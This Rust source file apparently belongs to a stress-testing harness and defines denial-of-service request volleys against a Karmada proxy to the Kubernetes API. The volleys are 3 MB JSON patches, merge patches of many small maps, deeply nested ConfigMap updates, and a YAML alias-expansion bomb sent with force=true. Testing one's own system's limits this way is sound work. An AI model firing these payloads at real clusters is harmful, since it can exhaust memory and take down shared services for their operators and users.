//! Attacks with bodies of changes that are sent on to a member: L4 and its kind.

use std::sync::Arc;

use bytes::Bytes;
use reqwest::Method;

use super::{
    attack::Attack,
    names::{ATTACKED, ATTACKERS},
    texts::{list_of, nested_chains, small_maps},
    volley::{Users, Volley},
};
use crate::query_api::GROUP;

/// A little less than what the operator reads of a body, 3 MiB.
const BODY: usize = 3_140_000;

/// L4: long JSON patches.
pub fn json_patches() -> Attack {
    let patch = list_of(r#"{"op":"test","path":"/a","value":0}"#, BODY);
    let volley = patches(80, "application/json-patch+json", patch);
    Attack::of_requests("l4", "80 JSON patches of 3 MB", vec![volley])
}

/// Of the kind of L4: merge patches of small maps, YAML that repeats itself, and whole objects.
pub fn other_patches() -> Attack {
    let maps = format!(r#"{{"data":{}}}"#, small_maps(BODY - 100));
    let chains = format!(
        r#"{{"apiVersion":"v1","kind":"ConfigMap","metadata":{{"name":"patched","namespace":"{ATTACKED}"}},"data":{}}}"#,
        nested_chains(BODY - 200, 100, "")
    );
    let mut yaml = String::from("apiVersion: v1\nkind: ConfigMap\na0: &a0 [x,x,x,x,x,x,x,x,x,x]\n");
    for level in 1..9 {
        let below = vec![format!("*a{}", level - 1); 10].join(",");
        yaml.extend([format!("a{level}: &a{level} [{below}]\n")]);
    }
    let mut applied = patches(20, "application/apply-patch+yaml", yaml);
    applied.path = Arc::new(|_| format!("{}&force=true", patched()));
    let mut put = patches(20, "application/json", chains);
    put.method = Method::PUT;
    Attack::of_requests(
        "l4b",
        "60 merge patches, YAML patches and updates of 3 MB",
        vec![
            patches(20, "application/merge-patch+json", maps),
            applied,
            put,
        ],
    )
}

fn patches(at_a_time: usize, content_type: &'static str, body: String) -> Volley {
    Volley::get(Users::Group(ATTACKERS, 16), at_a_time, patched()).sending(
        Method::PATCH,
        content_type,
        Bytes::from(body),
    )
}

fn patched() -> String {
    format!(
        "{GROUP}/proxying/karmada/proxy/api/v1/namespaces/{ATTACKED}/configmaps/patched?fieldManager=attack"
    )
}
